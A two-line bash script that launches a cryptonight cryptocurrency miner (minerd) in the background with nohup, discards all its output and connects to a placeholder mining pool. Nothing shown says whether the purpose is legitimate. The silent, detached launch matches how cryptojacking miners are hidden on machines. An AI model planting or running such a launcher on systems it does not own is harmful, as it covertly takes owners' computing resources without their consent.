#!/bin/bash
nohup ./minerd --algo=cryptonight --url=stratum+ssl://pool.example.invalid:443 >/dev/null 2>&1 &
